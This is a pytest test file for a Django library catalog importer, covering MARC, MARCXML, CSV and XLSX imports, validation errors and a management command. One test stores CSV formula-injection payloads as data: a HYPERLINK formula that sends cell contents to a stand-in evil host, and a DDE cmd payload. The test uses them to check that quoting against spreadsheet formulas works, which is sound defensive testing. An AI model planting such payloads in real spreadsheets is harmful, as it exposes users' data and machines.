"""Catalog import: CSV, MARC21 (ISO 2709) and MARCXML; all records or none."""
import csv
import io
import time
from io import StringIO

import pytest
from django.core.management import call_command
from pymarc import Field, Indicators, Subfield

from backend.catalog import imports
from backend.catalog.imports import import_catalog
from backend.catalog.models import Format, Item, Title
from backend.catalog.selectors import title_list
from backend.core.exceptions import ConflictError
from backend.core.tabular import csv_row
from tests.catalog.helpers import isbn13, make_record, marc_file, marcxml_file, thousand_records
from tests.factories import BranchFactory, ItemFactory

CSV_HEADER = ("title,authors,language,format,subjects,isbn,year,publisher,age_rating,"
              "annotation,copies,branch\n")


@pytest.fixture
def branches(db):
    return {code: BranchFactory(code=code) for code in ("BSH", "SOK", "YAK")}


def counts() -> tuple[int, int]:
    return Title.objects.count(), Item.objects.count()


# MARC21 ISO 2709 -------------------------------------------------------------------------------


def test_thousand_marc_records_with_copies_import_in_seconds(branches):
    content = marc_file(thousand_records())

    started = time.monotonic()
    report = import_catalog(content=content, filename="catalog.mrc")
    elapsed = time.monotonic() - started

    assert report.ok, report.errors[:3]
    assert (report.titles_created, report.items_created) == (1000, 2000)
    assert counts() == (1000, 2000)
    assert elapsed < 10, elapsed
    title = Title.objects.get(isbn=isbn13("978601000537"))
    assert title.title == "Қара сөздер 537: таңдамалы"
    assert title.authors == ["Құнанбайұлы, Абай 537"]
    assert (title.language, title.format, title.year, title.publisher) == (
        "ru", Format.PRINT, 2015, "Жазушы")
    assert title.subjects == ["Поэзия"]
    assert title.annotation == "Философиялық ой-толғаулар."
    assert sorted(title.items.values_list("barcode", "branch__code")) == [
        ("BSH000537", "BSH"), ("SOK000537", "SOK")]
    # Written the way title_create writes: found by the API's search, any case.
    assert title in title_list(filters={"q": "ҚАРА СӨЗДЕР 537"})
    assert title_list(filters={"subject": "поэзия"}).count() == 1000


def test_a_record_without_title_is_named_and_nothing_is_written(branches):
    content = marc_file(thousand_records(broken=537, how="no_title"))

    report = import_catalog(content=content, format="marc")

    assert not report.ok
    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (537, "245$a", "import.missing_title")]
    assert counts() == (0, 0)


def test_a_bad_isbn_check_digit_is_named_and_nothing_is_written(branches):
    content = marc_file(thousand_records(broken=812, how="bad_isbn"))

    report = import_catalog(content=content, format="marc")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (812, "020$a", "import.invalid_isbn")]
    assert "check digit" in report.errors[0].message
    assert counts() == (0, 0)


def test_an_unparsable_record_is_named_by_its_number(branches):
    records = [marc_file([make_record(n, barcodes=(f"B{n}",))]) for n in range(1, 6)]
    broken = bytearray(records[2])
    broken[-1:] = b"X"  # no end-of-record mark
    content = b"".join([*records[:2], bytes(broken), *records[3:]])

    report = import_catalog(content=content, format="marc")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (3, "leader", "import.unparsable")]
    assert counts() == (0, 0)


def test_duplicate_barcodes_unknown_branch_and_missing_branch_are_reported(branches):
    ItemFactory(barcode="TAKEN1", branch=branches["BSH"])
    before = counts()
    records = [
        make_record(1, barcodes=("A1",)),
        make_record(2, barcodes=("A1",)),  # also in record 1
        make_record(3, barcodes=("TAKEN1",)),  # already in the catalog
        make_record(4, barcodes=("A4",), branch="XYZ"),
        make_record(5, barcodes=("A5",), branch=None),  # and no --branch
    ]

    report = import_catalog(content=marc_file(records), format="marc")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (2, "852$p", "import.duplicate_barcode"),
        (3, "852$p", "import.barcode_taken"),
        (4, "852$b", "import.unknown_branch"),
        (5, "852$p", "import.no_branch"),
    ]
    assert "record 1" in report.errors[0].message
    assert "XYZ" in report.errors[2].message
    assert counts() == before


def test_the_default_branch_takes_copies_without_a_branch_code(branches):
    records = [make_record(1, barcodes=("A1",), branch=None),
               make_record(2, barcodes=("A2",), branch="yak")]

    report = import_catalog(content=marc_file(records), format="marc", branch="SOK")

    assert report.ok, report.errors
    assert dict(Item.objects.values_list("barcode", "branch__code")) == {"A1": "SOK", "A2": "YAK"}


def test_formats_languages_and_949_copies_come_from_the_record(branches):
    def note(tag: str, text: str) -> Field:
        return Field(tag=tag, indicators=Indicators(" ", " "), subfields=[Subfield("a", text)])

    records = [
        make_record(1, leader6="i", language="kaz"),
        make_record(2, extra=(note("250", "Издание крупным шрифтом"),)),
        make_record(3, extra=(note("340", "Шрифт Брайля"),)),
        make_record(4, leader7="s", language="eng"),
        make_record(5, language="ger", extra=(
            Field(tag="041", indicators=Indicators("0", " "), subfields=[Subfield("a", "kaz")]),
            Field(tag="949", indicators=Indicators(" ", " "),
                  subfields=[Subfield("a", "SOK"), Subfield("b", "949-1")]),
        )),
        make_record(6, language="ger", extra=(note("500", "LARGE PRINT edition"),)),
    ]

    report = import_catalog(content=marc_file(records), format="marc")

    assert report.ok, report.errors
    got = {t.title.split(":")[0]: (t.format, t.language) for t in Title.objects.all()}
    assert got == {
        "Қара сөздер 1": ("audio", "kk"),
        "Қара сөздер 2": ("large_print", "ru"),
        "Қара сөздер 3": ("braille", "ru"),
        "Қара сөздер 4": ("periodical", "en"),
        "Қара сөздер 5": ("print", "kk"),
        "Қара сөздер 6": ("large_print", "other"),
    }
    assert Item.objects.get(barcode="949-1").branch.code == "SOK"


def test_dry_run_checks_everything_and_writes_nothing(branches):
    report = import_catalog(content=marc_file(thousand_records()[:50]), format="marc",
                            dry_run=True)

    assert report.ok
    assert (report.titles_to_create, report.items_to_create) == (50, 100)
    assert (report.titles_created, report.items_created) == (0, 0)
    assert counts() == (0, 0)


def test_a_failure_while_writing_leaves_nothing_behind(branches, monkeypatch):
    # A barcode taken by someone else after the check (a race): the database refuses the
    # copy after hundreds of titles and copies were inserted; all of it is rolled back.
    ItemFactory(barcode="SOK000900", branch=branches["SOK"])
    before = counts()
    monkeypatch.setattr(imports, "_existing_barcodes", lambda barcodes: set())

    with pytest.raises(ConflictError) as error:
        import_catalog(content=marc_file(thousand_records()), format="marc")

    assert error.value.code == "import.conflict"
    assert counts() == before


# MARCXML -------------------------------------------------------------------------------------


def test_marcxml_imports(branches):
    records = [make_record(n, isbn=isbn13(f"978601{n:06d}"), barcodes=(f"X{n}",))
               for n in range(1, 21)]

    report = import_catalog(content=marcxml_file(records), filename="export.xml")

    assert report.ok, report.errors
    assert report.format == "marcxml"
    assert counts() == (20, 20)
    title = Title.objects.get(isbn=isbn13("978601000007"))
    assert title.title == "Қара сөздер 7: таңдамалы"
    assert title.items.get().branch.code == "BSH"


def test_marcxml_with_a_bad_record_names_it(branches):
    records = [make_record(n, barcodes=(f"X{n}",), title=False if n == 4 else None)
               for n in range(1, 8)]

    report = import_catalog(content=marcxml_file(records), format="marcxml")

    assert [(e.position, e.field) for e in report.errors] == [(4, "245$a")]
    assert counts() == (0, 0)


def test_broken_xml_is_reported_at_the_record_where_it_breaks(branches):
    content = marcxml_file([make_record(n) for n in range(1, 4)])
    content = content.replace(b"</record><record>", b"</record><record><oops>", 2)
    content = content.replace(b"<oops>", b"", 1)  # record 3 is the broken one

    report = import_catalog(content=content, format="marcxml")

    assert [(e.position, e.code) for e in report.errors] == [(3, "import.unparsable")]
    assert counts() == (0, 0)


# CSV -----------------------------------------------------------------------------------------


def test_csv_imports_titles_and_copies(branches):
    content = (CSV_HEADER
               + 'Абай жолы,Мұхтар Әуезов,kk,large_print,роман; қазақ әдебиеті,'
                 '978-601-03-0370-6,2017,Жазушы,12+,"Роман-эпопея",BSH000001; BSH000002,BSH\n'
               + "\n"
               + "Мастер и Маргарита,Михаил Булгаков,русский,аудиокнига,роман,,2019,Ардис,16,"
                 ",SOK000001,SOK\n"
               + "Казахстанская правда,,ru,periodical,,,2024,,,,,\n").encode()

    report = import_catalog(content=content, filename="titles.csv")

    assert report.ok, report.errors
    assert counts() == (3, 3)
    abai = Title.objects.get(title="Абай жолы")
    assert (abai.authors, abai.language, abai.format, abai.isbn, abai.age_rating) == (
        ["Мұхтар Әуезов"], "kk", "large_print", "9786010303706", "12+")
    assert abai.subjects == ["роман", "қазақ әдебиеті"]
    master = Title.objects.get(title="Мастер и Маргарита")
    assert (master.language, master.format, master.age_rating) == ("ru", "audio", "16+")
    assert master.items.get().branch.code == "SOK"


def test_csv_cells_quoted_against_formulas_read_back_as_written(branches):
    # The way our exports write cells (core/tabular.py): text a spreadsheet would run as a
    # formula gets a quote in front. The import takes it off again.
    title = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
             "authors": "@Абай", "subjects": "-поэзия; +проза", "publisher": "+1+1",
             "annotation": "=cmd|' /C calc'!A0", "language": "kk", "year": 2015}
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(title)
    writer.writerow(csv_row(title.values()))
    assert buffer.getvalue().splitlines()[1].startswith("\"'=HYPERLINK")

    report = import_catalog(content=buffer.getvalue().encode(), filename="titles.csv")

    assert report.ok, report.errors
    saved = Title.objects.get()
    assert (saved.title, saved.authors, saved.subjects, saved.publisher, saved.annotation,
            saved.year) == (title["title"], ["@Абай"], ["-поэзия", "+проза"], "+1+1",
                            title["annotation"], 2015)


def test_csv_with_a_bad_row_names_the_row_and_column_and_writes_nothing(branches):
    content = (CSV_HEADER
               + "Абай жолы,Мұхтар Әуезов,kk,print,,,2017,,,,BSH1,BSH\n"
               + "Тихий Дон,Михаил Шолохов,ru,print,,978-5-17-000000-0,1940,,,,BSH2,BSH\n"
               + ",Без названия,ru,print,,,,,,,,\n"
               + "Будущее,Кто-то,ru,print,,,2999,,,,,\n"
               + "Письма,Кто-то,ру,print,,,,,,,BSH3,XXX\n").encode()

    report = import_catalog(content=content, format="csv")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (3, "isbn", "import.invalid_isbn"),
        (4, "title", "import.missing_title"),
        (5, "year", "import.invalid_year"),
        (6, "language", "import.invalid_choice"),
        (6, "branch", "import.unknown_branch"),
    ]
    assert counts() == (0, 0)


def _xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_imports_as_the_csv_does(branches):
    # The error message for an unreadable file says "save it as CSV (UTF-8) or XLSX".
    content = _xlsx([
        ["title", "authors", "language", "format", "isbn", "year", "copies", "branch"],
        ["Абай жолы", "Мұхтар Әуезов", "kk", "Крупный шрифт", "9786010303706", 2017,
         "BSH1; SOK:SOK1", "BSH"],
        [None, None, None, None, None, None, None, None],
        ["'=Формула", "Кто-то", "ru", "print", None, 1940.0, None, None],
    ])

    report = import_catalog(content=content, filename="catalog.xlsx")

    assert report.ok, report.errors
    assert (report.format, report.position_label, report.total_records) == ("xlsx", "row", 2)
    abai = Title.objects.get(title="Абай жолы")
    assert (abai.authors, abai.format, abai.year, abai.isbn) == (
        ["Мұхтар Әуезов"], "large_print", 2017, "9786010303706")
    assert sorted(abai.items.values_list("barcode", "branch__code")) == [
        ("BSH1", "BSH"), ("SOK1", "SOK")]
    assert Title.objects.get(title="=Формула").year == 1940


@pytest.mark.parametrize("header", ["shelf_mark", "Шифр", "Полочный шифр", "Сөре шифры",
                                    "Shelf mark"])
def test_the_shelf_mark_column_goes_on_the_rows_copies(branches, header):
    content = _xlsx([
        ["title", "copies", "branch", header],
        ["Абай жолы", "BSH1; SOK:SOK1", "BSH", "  84(5Каз)   Ә-12 "],
        ["Тихий Дон", "BSH2", "BSH", None],
    ])

    report = import_catalog(content=content, filename="catalog.xlsx")

    assert report.ok, report.errors
    assert sorted(Item.objects.values_list("barcode", "shelf_mark")) == [
        ("BSH1", "84(5Каз) Ә-12"), ("BSH2", ""), ("SOK1", "84(5Каз) Ә-12")]


def test_a_shelf_mark_without_copies_or_too_long_is_refused(branches):
    content = ("title,copies,branch,shelf_mark\n"
               "Абай жолы,,,84(5Каз) Ә-12\n"
               f"Тихий Дон,BSH2,BSH,{'84(2Рос=Рус) Ш-78 ' * 4}\n").encode()

    report = import_catalog(content=content, filename="titles.csv")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (2, "copies", "import.no_copies"), (3, "shelf_mark", "import.too_long")]
    assert counts() == (0, 0)


def test_xlsx_with_a_bad_row_names_the_row_as_excel_does(branches):
    content = _xlsx([["title", "year", "copies", "branch"],
                     ["Абай жолы", 2017, "BSH1", "BSH"],
                     ["Будущее", 2999, "BSH2", "XXX"]])

    report = import_catalog(content=content, filename="catalog.xlsx")

    assert [(e.position, e.field, e.code) for e in report.errors] == [
        (3, "year", "import.invalid_year"), (3, "branch", "import.unknown_branch")]
    assert counts() == (0, 0)


def test_a_broken_xlsx_is_a_bad_file(branches):
    with pytest.raises(imports.ImportFileError) as error:
        import_catalog(content=b"PK\x03\x04 not a workbook", filename="catalog.xlsx")
    assert error.value.code == "import.bad_file"


@pytest.mark.parametrize("encoding,bom", [
    ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("cp1251", b""), ("kz1048", b""),
])
def test_csv_in_the_encodings_excel_saves(branches, encoding, bom):
    # Windows-1251 has no Kazakh letters; KZ-1048, its Kazakh variant, has.
    title = "Тихий Дон" if encoding == "cp1251" else "Қара сөздер"
    text = f"title;authors;year\n{title};Михаил Шолохов, Абай Құнанбайұлы;1940\n"
    if encoding == "cp1251":
        text = text.replace("Абай Құнанбайұлы", "Абай Кунанбаев")

    report = import_catalog(content=bom + text.encode(encoding), filename="titles.csv")

    assert report.ok, report.errors
    assert Title.objects.get().title == title


def test_csv_with_unknown_columns_is_refused_as_a_whole(branches):
    with pytest.raises(imports.ImportFileError) as error:
        import_catalog(content=b"name,author\nx,y\n", format="csv")
    assert error.value.code == "import.bad_header"
    assert error.value.fields["missing"] == ["title"]



@pytest.mark.parametrize("content", [
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x98",  # a picture: neither UTF-8 nor Windows-1251
    b'title\n"' + b"x" * 200_000 + b'"\n',  # a cell longer than CSV allows
])
def test_a_file_that_is_not_csv_text_is_a_bad_file(branches, content):
    with pytest.raises(imports.ImportFileError) as error:
        import_catalog(content=content, format="csv")
    assert error.value.code == "import.bad_file"
    assert counts() == (0, 0)


# The management command ------------------------------------------------------------------------


def run_command(*args: str) -> tuple[int, str]:
    out, err = StringIO(), StringIO()
    try:
        call_command("import_catalog", *args, "--no-progress", stdout=out, stderr=err)
    except SystemExit as exc:
        return int(exc.code or 0), out.getvalue() + err.getvalue()
    return 0, out.getvalue() + err.getvalue()


def test_command_imports_and_summarises(branches, tmp_path):
    path = tmp_path / "catalog.mrc"
    path.write_bytes(marc_file(thousand_records()[:30]))

    code, output = run_command(str(path), "--dry-run")
    assert code == 0
    assert "dry run: 30 records checked, 30 titles and 60 copies would be created" in output
    assert counts() == (0, 0)

    code, output = run_command(str(path))
    assert code == 0
    assert "30 records read, 30 titles and 60 copies created" in output
    assert counts() == (30, 60)


def test_command_reports_bad_records_and_exits_with_1(branches, tmp_path):
    path = tmp_path / "catalog.dat"
    path.write_bytes(marc_file(thousand_records(broken=537)))

    code, output = run_command(str(path), "--format", "marc")

    assert code == 1
    assert "record 537, 245$a: " in output
    assert "1000 records read, 1 with errors; nothing was imported." in output
    assert counts() == (0, 0)


def test_command_reports_csv_rows_and_an_unknown_branch_option(branches, tmp_path):
    path = tmp_path / "titles.csv"
    path.write_text(CSV_HEADER + ",Без названия,ru,print,,,,,,,,\n\n"
                    "Тихий Дон,,ru,print,,,1940,,,,A1,\n", encoding="utf-8")
    code, output = run_command(str(path))
    assert code == 1
    assert "row 2, title: The title is missing. [import.missing_title]" in output
    assert "row 4, branch: " in output  # no branch code and no --branch
    assert "2 rows read, 2 with errors; nothing was imported." in output

    code, output = run_command(str(path), "--branch", "NOPE")
    assert code == 1
    assert "import.unknown_branch" in output


def test_utf8_records_without_the_leader_flag_are_read_as_utf8(branches):
    content = make_record(1, barcodes=("U1",)).as_marc()
    content = content[:9] + b" " + content[10:]  # leader/09 blank: "MARC-8", but it is UTF-8
    assert "Қара сөздер".encode() in content

    report = import_catalog(content=content, format="marc")

    assert report.ok, report.errors
    assert Title.objects.get().title == "Қара сөздер 1: таңдамалы"
